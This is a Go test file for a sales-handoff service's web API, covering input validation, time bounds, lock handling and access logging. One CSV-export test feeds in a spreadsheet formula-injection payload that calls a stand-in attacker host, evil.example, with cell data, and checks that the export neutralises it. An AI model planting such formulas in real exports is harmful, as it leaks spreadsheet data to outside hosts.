package web_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/batonhq/baton"
	"github.com/batonhq/baton/sqlite"
	"github.com/batonhq/baton/web"
)

// rawBody marshals sig, then swaps each placeholder for raw bytes that
// json.Marshal would not write (invalid UTF-8, escapes).
func rawBody(t testing.TB, sig signal, swaps ...string) string {
	t.Helper()
	body := mustJSON(t, sig)
	for i := 0; i+1 < len(swaps); i += 2 {
		if !strings.Contains(body, swaps[i]) {
			t.Fatalf("placeholder %q not in %s", swaps[i], body)
		}
		body = strings.ReplaceAll(body, swaps[i], swaps[i+1])
	}
	return body
}

func TestRejectsInvalidUTF8(t *testing.T) {
	t.Parallel()
	s := newStack(t)

	// Two external ids that differ only in invalid bytes were both read
	// as "u\uFFFD\uFFFD1": the second signal was dropped as a duplicate.
	t.Run("DifferentInvalidExternalIDsAreNotOneSignal", func(t *testing.T) {
		t.Parallel()
		for _, id := range []string{"u\xff\xfe1", "u\xfe\xff1"} {
			r := s.do(t, "POST", "/api/v1/signals", s.rep, rawBody(t, exampleSignal("ID"), `"external_id":"ID"`, `"external_id":"`+id+`"`))
			wantError(t, r, http.StatusUnprocessableEntity, baton.EINVALID, "external_id")
		}
	})

	t.Run("NamesTheField", func(t *testing.T) {
		t.Parallel()
		for _, tc := range []struct {
			name, path, body, field string
		}{
			{"ContactName", "/api/v1/signals", rawBody(t, exampleSignal("f1"), "Ana Ruiz", "Ana \xc3("), "contact.name"},
			{"Message", "/api/v1/signals", rawBody(t, exampleSignal("f2"), "for our warehouse", "for \xffour warehouse"), "message"},
			{"LoneSurrogateEscape", "/api/v1/signals", rawBody(t, exampleSignal("f3"), "for our warehouse", `for \ud800 warehouse`), "message"},
			{"LowSurrogateFirst", "/api/v1/signals", rawBody(t, exampleSignal("f4"), "for our warehouse", `for \udc00\ud800 warehouse`), "message"},
			{"FreeField", "/api/v1/signals", rawBody(t, with2(exampleSignal("f5"), "fields", map[string]any{"note": "PLACE"}), "PLACE", "bad\x80"), "fields.note"},
			{"FreeFieldKey", "/api/v1/signals", rawBody(t, with2(exampleSignal("f6"), "fields", map[string]any{"note": "x"}), `"note"`, "\"n\xffte\""), "fields"},
			{"AttendeeInAList", "/api/v1/signals", rawBody(t, with2(meetingSignal("f7", t0.Add(72*time.Hour)), "meeting",
				map[string]any{"starts_at": t0.Add(72 * time.Hour).Format(time.RFC3339), "timezone": "UTC",
					"attendees": []any{map[string]any{"email": "a@x.example"}, map[string]any{"email": "b@x.example", "name": "PLACE"}}}), "PLACE", "\xed\xa0\x80"), "meeting.attendees[1].name"},
			{"UserName", "/api/v1/users", "{\"email\":\"new@t.example\",\"name\":\"N\xffw\",\"role\":\"sdr\",\"team\":\"sdr\",\"timezone\":\"UTC\"}", "name"},
			{"CommandReason", "/api/v1/handoffs/0190c0de-0000-7000-8000-000000000000/cancel", "{\"reason\":\"\xfe\"}", "reason"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				token := s.rep
				if tc.path != "/api/v1/signals" {
					token = s.manager
				}
				r := s.do(t, "POST", tc.path, token, tc.body)
				wantError(t, r, http.StatusUnprocessableEntity, baton.EINVALID, tc.field)
			})
		}
	})

	t.Run("AcceptsEscapedSurrogatePairsAndRealText", func(t *testing.T) {
		t.Parallel()
		body := rawBody(t, exampleSignal("ok-utf8"), "for our warehouse", `for \ud83d\ude9a our Lagerhalle – 倉庫 \u003c`)
		r := s.do(t, "POST", "/api/v1/signals", s.rep, body)
		if r.status != http.StatusCreated {
			t.Fatalf("got %s, want 201", r)
		}
		if got := decode[signalReply](t, r).Signal.Message; !strings.Contains(got, "🚚 our Lagerhalle – 倉庫 <") {
			t.Errorf("got message %q, want the text as sent", got)
		}
	})
}

// with2 sets key to val in sig and returns it.
func with2(sig signal, key string, val any) signal {
	sig[key] = val
	return sig
}

func TestRejectsZeroAndAbsurdTimes(t *testing.T) {
	t.Parallel()
	s := newStack(t)

	t.Run("ZeroOccurredAtIsNotReplacedByNow", func(t *testing.T) {
		t.Parallel()
		for _, zero := range []string{"0001-01-01T00:00:00Z", "0000-12-31T23:00:00-01:00"} {
			r := s.do(t, "POST", "/api/v1/signals", s.rep, mustJSON(t, with2(exampleSignal("z-"+zero), "occurred_at", zero)))
			wantError(t, r, http.StatusUnprocessableEntity, baton.EINVALID, "occurred_at")
		}
	})

	t.Run("ZeroMeetingStartIsNamed", func(t *testing.T) {
		t.Parallel()
		sig := meetingSignal("z-meeting", t0.Add(72*time.Hour))
		sig["meeting"].(map[string]any)["starts_at"] = "0001-01-01T00:00:00Z"
		r := s.do(t, "POST", "/api/v1/signals", s.rep, mustJSON(t, sig))
		wantError(t, r, http.StatusUnprocessableEntity, baton.EINVALID, "meeting.starts_at")
	})

	t.Run("ZeroAwayFromIsRefused", func(t *testing.T) {
		t.Parallel()
		r := s.do(t, "POST", "/api/v1/users", s.manager, `{"email":"z@t.example","name":"Z","role":"sdr","team":"sdr","timezone":"UTC",
			"away_from":"0001-01-01T00:00:00Z","away_until":"2026-12-01T00:00:00Z"}`)
		wantError(t, r, http.StatusUnprocessableEntity, baton.EINVALID, "away_from")
	})

	t.Run("OmittedOccurredAtIsNow", func(t *testing.T) {
		t.Parallel()
		sig := exampleSignal("z-omitted")
		delete(sig, "occurred_at")
		res := call[signalReply](t, s, "POST", "/api/v1/signals", s.rep, sig, http.StatusCreated)
		if !res.Signal.OccurredAt.Equal(t0) {
			t.Errorf("got occurred_at %s, want now %s", res.Signal.OccurredAt, t0)
		}
	})

	t.Run("ServerSetZeroTimesAreIgnored", func(t *testing.T) {
		t.Parallel()
		// A Go client marshalling baton.Signal sends received_at as zero.
		sig := exampleSignal("z-received")
		sig["received_at"] = "0001-01-01T00:00:00Z"
		call[signalReply](t, s, "POST", "/api/v1/signals", s.rep, sig, http.StatusCreated)
	})

	t.Run("WindowsOutOfBoundsAreRefusedNotMoved", func(t *testing.T) {
		t.Parallel()
		for _, tc := range []struct {
			query  string
			fields []string
		}{
			{"from=0001-01-01&to=9999-12-31", []string{"from", "to"}},
			{"from=0001-01-01", []string{"from"}},
			{"from=1999-12-31", []string{"from"}},
			{"to=2028-01-01", []string{"to"}},
			{"from=2025-11-01&to=2026-11-23", []string{"from"}}, // longer than 366 days
		} {
			for _, path := range []string{"/api/v1/reports/sla", "/api/v1/metrics/summary"} {
				t.Run(path+"?"+tc.query, func(t *testing.T) {
					r := s.do(t, "GET", path+"?"+tc.query, s.rep, "")
					wantError(t, r, http.StatusUnprocessableEntity, baton.EINVALID, tc.fields...)
				})
			}
		}
	})
}

func TestSLAReportCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	const formula = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	for id, source := range map[string]string{"csv-1": formula, "csv-2": "@SUM(1+1)", "csv-3": "-5", "csv-4": "+1 call"} {
		s.ingest(t, with2(exampleSignal(id), "source", source))
	}
	s.clock.Add(time.Minute)
	r := s.do(t, "GET", "/api/v1/reports/sla?format=csv", s.admin, "")
	if r.status != http.StatusOK {
		t.Fatalf("got %s, want 200", r)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("parse csv: %v\n%s", err, r.body)
	}
	sources := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("got cell %q, which a spreadsheet would run as a formula", cell)
			}
		}
		if row[0] == "source" {
			sources[row[1]] = true
		}
	}
	for _, want := range []string{"'" + formula, "'@SUM(1+1)", "-5", "'+1 call"} {
		if !sources[want] {
			t.Errorf("got sources %v, want %q among them", sources, want)
		}
	}
}

func TestListHandoffsByOwnerEmail(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	h := s.ingest(t, exampleSignal("by-email"))
	if h.Owner == nil {
		t.Fatal("handoff has no owner")
	}
	for _, owner := range []string{h.Owner.Email, strings.ToUpper(h.Owner.Email), h.OwnerID} {
		got := call[listReply](t, s, "GET", "/api/v1/handoffs?owner="+owner, s.rep, nil, http.StatusOK)
		if len(got.Handoffs) != 1 || got.Handoffs[0].ID != h.ID {
			t.Errorf("owner=%s: got %v, want [%s]", owner, ids(got.Handoffs), h.ID)
		}
	}
	r := s.do(t, "GET", "/api/v1/handoffs?owner=nobody@t.example", s.rep, "")
	wantError(t, r, http.StatusUnprocessableEntity, baton.EINVALID, "owner")
}

// lockElsewhere takes SQLite's write lock on path from a connection outside
// the store, as a backup or another program would, until release.
func lockElsewhere(t *testing.T, path string) (release func()) {
	t.Helper()
	other, err := sql.Open("sqlite", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	conn, err := other.Conn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.ExecContext(context.Background(), "BEGIN IMMEDIATE"); err != nil {
		t.Fatalf("lock from another connection: %v", err)
	}
	var once sync.Once
	release = func() {
		once.Do(func() {
			conn.ExecContext(context.Background(), "ROLLBACK")
			conn.Close()
			other.Close()
		})
	}
	t.Cleanup(release)
	return release
}

func TestLockedDatabase(t *testing.T) {
	t.Parallel()
	s := newStackWith(t, sqlite.Options{Synchronous: "NORMAL", BusyTimeout: 5 * time.Millisecond})
	s.web.Ready = s.db.Ready
	release := lockElsewhere(t, s.path)

	r := s.do(t, "POST", "/api/v1/signals", s.rep, mustJSON(t, exampleSignal("locked")))
	wantError(t, r, http.StatusServiceUnavailable, baton.EUNAVAILABLE)
	if got := r.header.Get("Retry-After"); got == "" {
		t.Error("503: got no Retry-After, want one")
	}
	r = s.do(t, "GET", "/readyz", "", "")
	if r.status != http.StatusServiceUnavailable || r.header.Get("Retry-After") == "" {
		t.Errorf("readyz while locked: got %s (Retry-After %q), want 503 with Retry-After", r, r.header.Get("Retry-After"))
	}
	if r := s.do(t, "GET", "/healthz", "", ""); r.status != http.StatusOK {
		t.Errorf("healthz while locked: got %s, want 200 (the process is alive)", r)
	}

	release()
	if r := s.do(t, "GET", "/readyz", "", ""); r.status != http.StatusOK {
		t.Errorf("readyz once unlocked: got %s, want 200", r)
	}
	call[signalReply](t, s, "POST", "/api/v1/signals", s.rep, exampleSignal("locked"), http.StatusCreated)
}

// logLines decodes a JSON log, one object a line.
func logLines(t *testing.T, b []byte) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, line := range bytes.Split(bytes.TrimSpace(b), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("log line %q: %v", line, err)
		}
		out = append(out, m)
	}
	return out
}

// syncBuffer is a bytes.Buffer safe for a logger and a test to share.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) take() []byte {
	b.mu.Lock()
	defer b.mu.Unlock()
	out := bytes.Clone(b.buf.Bytes())
	b.buf.Reset()
	return out
}

func TestAccessLog(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	var logs syncBuffer
	ws, err := web.New(s.svc, slogJSON(&logs))
	if err != nil {
		t.Fatal(err)
	}
	serve := func(req *http.Request) *httptest.ResponseRecorder {
		req.Header.Set("Authorization", "Bearer "+s.rep)
		rec := httptest.NewRecorder()
		checkContract(t, ws).ServeHTTP(rec, req)
		return rec
	}

	t.Run("OneLinePerRequestWithTheRoutePattern", func(t *testing.T) {
		req := httptest.NewRequest("GET", "/api/v1/handoffs/0190c0de-0000-7000-8000-000000000000", nil)
		req.Header.Set("X-Request-Id", "trace-42")
		rec := serve(req)
		if got := rec.Header().Get("X-Request-Id"); got != "trace-42" {
			t.Errorf("got X-Request-Id %q, want the client's trace-42", got)
		}
		lines := logLines(t, logs.take())
		if len(lines) != 1 {
			t.Fatalf("got %d log lines %v, want 1", len(lines), lines)
		}
		l := lines[0]
		for k, want := range map[string]any{"level": "INFO", "msg": "request", "request_id": "trace-42", "method": "GET",
			"route": "GET /api/v1/handoffs/{id}", "status": float64(http.StatusNotFound), "bytes": float64(rec.Body.Len())} {
			if l[k] != want {
				t.Errorf("log %s: got %v, want %v", k, l[k], want)
			}
		}
		if _, ok := l["duration"]; !ok {
			t.Errorf("log: got no duration in %v", l)
		}
	})

	t.Run("MakesAnIdWhenNoneOrABadOneIsGiven", func(t *testing.T) {
		for _, given := range []string{"", "has space", strings.Repeat("x", 200), "new\nline"} {
			req := httptest.NewRequest("GET", "/healthz", nil)
			if given != "" {
				req.Header["X-Request-Id"] = []string{given}
			}
			rec := serve(req)
			id := rec.Header().Get("X-Request-Id")
			if id == "" || id == given {
				t.Errorf("given %q: got X-Request-Id %q, want a new one", given, id)
			}
			lines := logLines(t, logs.take())
			if len(lines) != 1 || lines[0]["request_id"] != id || lines[0]["route"] != "GET /healthz" {
				t.Errorf("given %q: got log %v, want one line with id %s", given, lines, id)
			}
		}
	})

	t.Run("IntakeTokenIsNotLogged", func(t *testing.T) {
		serve(httptest.NewRequest("GET", "/intake/s3cret-intake-token", nil))
		logged := logs.take()
		if bytes.Contains(logged, []byte("s3cret-intake-token")) {
			t.Errorf("got log %s, want the route pattern without the token", logged)
		}
		if lines := logLines(t, logged); len(lines) != 1 || lines[0]["route"] != "GET /intake/{token}" {
			t.Errorf("got log %v, want one line with route GET /intake/{token}", lines)
		}
	})

	t.Run("ClientThatWentAwayIsNoError", func(t *testing.T) {
		for _, req := range []*http.Request{
			httptest.NewRequest("POST", "/api/v1/signals", strings.NewReader(mustJSON(t, exampleSignal("gone")))),
			httptest.NewRequest("GET", "/intake/some-token", nil),
		} {
			ctx, cancel := context.WithCancel(context.Background())
			cancel()
			req = req.WithContext(ctx)
			req.Header.Set("Content-Type", "application/json")
			serve(req)
			lines := logLines(t, logs.take())
			var gone, access bool
			for _, l := range lines {
				if l["level"] == "ERROR" {
					t.Errorf("%s: got an error line %v, want none for a client that went away", req.URL.Path, l)
				}
				gone = gone || (l["msg"] == "client went away" && l["level"] == "INFO")
				access = access || (l["msg"] == "request" && l["status"] == float64(499))
			}
			if !gone || !access {
				t.Errorf("%s: got log %v, want an info line \"client went away\" and an access line with status 499", req.URL.Path, lines)
			}
		}
	})
}
